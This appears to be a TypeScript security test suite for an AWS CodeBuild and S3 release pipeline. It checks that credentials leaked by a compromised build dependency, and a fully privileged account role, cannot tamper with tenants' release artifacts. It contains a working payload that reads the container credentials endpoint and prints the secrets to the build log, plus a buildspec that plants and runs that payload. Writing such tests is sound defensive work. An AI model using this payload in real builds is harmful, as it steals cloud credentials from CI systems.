import { CloudWatchLogsClient, GetLogEventsCommand } from '@aws-sdk/client-cloudwatch-logs';
import { BatchGetBuildsCommand, CodeBuildClient, StartBuildCommand } from '@aws-sdk/client-codebuild';
import { CodePipelineClient, StartPipelineExecutionCommand } from '@aws-sdk/client-codepipeline';
import {
  CopyObjectCommand,
  DeleteObjectCommand,
  GetObjectCommand,
  ListObjectsV2Command,
  PutObjectCommand,
  S3Client,
} from '@aws-sdk/client-s3';
import { AssumeRoleCommand, GetCallerIdentityCommand, STSClient } from '@aws-sdk/client-sts';
import { expect } from '@jest/globals';
import { CURRENT_RELEASE, Release, releasePipelineName, releaseProjectName } from '@tenantry/shared/deployment/release';
import { roleArn } from '@tenantry/shared/domain/names';
import { allow } from '@tenantry/shared/infra/policy';
import { rootOf, testAccounts, testRegion } from '@tenantry/shared/testing/accounts';
import { eventually } from '@tenantry/shared/testing/eventually';
import { roleWith } from '@tenantry/shared/testing/role';
import { attack } from '../attack.ts';

const { devops } = testAccounts;
const Bucket = `tenantry-dev-artifacts-${devops}`;
const root = rootOf(devops);

/** A repository whose build runs a dependency that has gone bad: it asks the container for its credentials, and shows them to the world. */
const BAD_DEPENDENCY = `
const answer = await fetch(process.env.AWS_CONTAINER_CREDENTIALS_FULL_URI ?? 'http://169.254.170.2' + process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI);
for (const part of Buffer.from(await answer.text()).toString('base64').match(/.{1,200}/g)) console.log('STOLEN ' + part);
console.log('STOLEN ALL');
`;
const BUILDSPEC = `version: 0.2
env:
  shell: bash
phases:
  build:
    commands:
      - mkdir -p node_modules/bad && printf '%s' '${Buffer.from(BAD_DEPENDENCY).toString('base64')}' | base64 -d > node_modules/bad/index.mjs
      - printf '%s' '{"scripts":{"build":"node node_modules/bad/index.mjs"}}' > package.json
      - npm run build
`;

/** Runs the build as CodeBuild runs it for a commit, and answers the credentials that it has let out. */
const stolen = async () => {
  const codeBuild = new CodeBuildClient(root);
  const { build } = await codeBuild.send(
    new StartBuildCommand({
      projectName: releaseProjectName('dev', 'ui'),
      sourceTypeOverride: 'NO_SOURCE',
      artifactsOverride: { type: 'NO_ARTIFACTS' },
      buildspecOverride: BUILDSPEC,
    }),
  );
  const ended = await eventually('the build ends', async () => {
    const { builds = [] } = await codeBuild.send(new BatchGetBuildsCommand({ ids: [build?.id ?? ''] }));
    return builds[0]?.buildComplete ? builds[0] : undefined;
  });
  expect(ended.buildStatus).toBe('SUCCEEDED');
  const { groupName: logGroupName = '', streamName: logStreamName = '' } = ended.logs ?? {};
  // CloudWatch has the last lines of a build some time after its end.
  const parts = await eventually('the log has all that was printed', async () => {
    const { events = [] } = await new CloudWatchLogsClient(root).send(
      new GetLogEventsCommand({ logGroupName, logStreamName, startFromHead: true }),
    );
    const printed = events.flatMap(({ message = '' }) => /^STOLEN (\S+)/.exec(message.trim())?.[1] ?? []);
    return printed.at(-1) === 'ALL' ? printed.slice(0, -1) : undefined;
  });
  const { AccessKeyId, SecretAccessKey, Token } = JSON.parse(Buffer.from(parts.join(''), 'base64').toString()) as Record<string, string>;
  const credentials = { accessKeyId: AccessKeyId ?? '', secretAccessKey: SecretAccessKey ?? '', sessionToken: Token ?? '' };
  return { region: testRegion, credentials };
};
const current = async (): Promise<Release> => {
  const { Body } = await new S3Client(root).send(new GetObjectCommand({ Bucket, Key: CURRENT_RELEASE }));
  return Release.parse(JSON.parse((await Body?.transformToString()) ?? ''));
};
const content = async (Key: string): Promise<string> =>
  Buffer.from((await (await new S3Client(root).send(new GetObjectCommand({ Bucket, Key }))).Body?.transformToByteArray()) ?? []).toString(
    'hex',
  );

attack(
  'bad-dependency',
  "a dependency of the console prints its credentials, calls STS, and replaces other commits' releases",
  async () => {
    const release = await current();
    const before = await Promise.all(release.artifacts.map(({ key }) => content(key)));
    const thief = await stolen();
    const sts = new STSClient(thief);
    const s3 = new S3Client(thief);
    // The credentials are good, and are good for nothing.
    expect((await sts.send(new GetCallerIdentityCommand({}))).Arn).toContain(`assumed-role/${releaseProjectName('dev', 'ui')}/`);

    const roles = ['build', 'codepipeline', 'pipeline', 'releases', 'release-api', 'releases-pipeline', 'offboard', 'admin'];
    const assumed = roles.map((name) => new AssumeRoleCommand({ RoleArn: roleArn(devops, `tenantry-dev-${name}`), RoleSessionName: 'x' }));
    const keys = [...release.artifacts.map(({ key }) => key), `releases/ui/${'f'.repeat(40)}.zip`, CURRENT_RELEASE];
    const tries: readonly (() => Promise<unknown>)[] = [
      ...assumed.map((command) => () => sts.send(command)),
      ...keys.flatMap((Key) => [
        () => s3.send(new PutObjectCommand({ Bucket, Key, Body: 'bad' })),
        () => s3.send(new PutObjectCommand({ Bucket, Key, Body: 'bad', IfNoneMatch: '*' })),
        () => s3.send(new CopyObjectCommand({ Bucket, Key, CopySource: `${Bucket}/${release.artifacts[0]?.key}` })),
        () => s3.send(new DeleteObjectCommand({ Bucket, Key })),
        () => s3.send(new GetObjectCommand({ Bucket, Key })),
      ]),
      () => s3.send(new ListObjectsV2Command({ Bucket })),
      () => new CodePipelineClient(thief).send(new StartPipelineExecutionCommand({ name: releasePipelineName('dev') })),
    ];
    const outcomes = await Promise.all(
      tries.map((attempt) =>
        attempt().then(
          () => 'done',
          (error: Error) => error.name,
        ),
      ),
    );
    expect([...new Set(outcomes)].filter((name) => !/^AccessDenied(Exception)?$/.test(name))).toEqual([]);
    expect(await Promise.all(release.artifacts.map(({ key }) => content(key)))).toEqual(before);
  },
);

attack('release-replaced-by-root', "somebody with all rights in the DevOps account replaces or deletes a tenant's release", async () => {
  const [artifact] = (await current()).artifacts;
  const Key = artifact?.key ?? '';
  const before = await content(Key);
  const s3 = new S3Client(await roleWith(devops, [allow('*', '*')]));
  const tries = [
    s3.send(new PutObjectCommand({ Bucket, Key, Body: 'bad' })),
    s3.send(new PutObjectCommand({ Bucket, Key, Body: 'bad', IfNoneMatch: '*' })),
    s3.send(new DeleteObjectCommand({ Bucket, Key })),
  ];
  const outcomes = await Promise.all(
    tries.map((attempt) =>
      attempt.then(
        () => 'done',
        (error: Error) => error.name,
      ),
    ),
  );
  expect(outcomes).toEqual(Array(tries.length).fill('AccessDenied'));
  expect(await content(Key)).toBe(before);
});
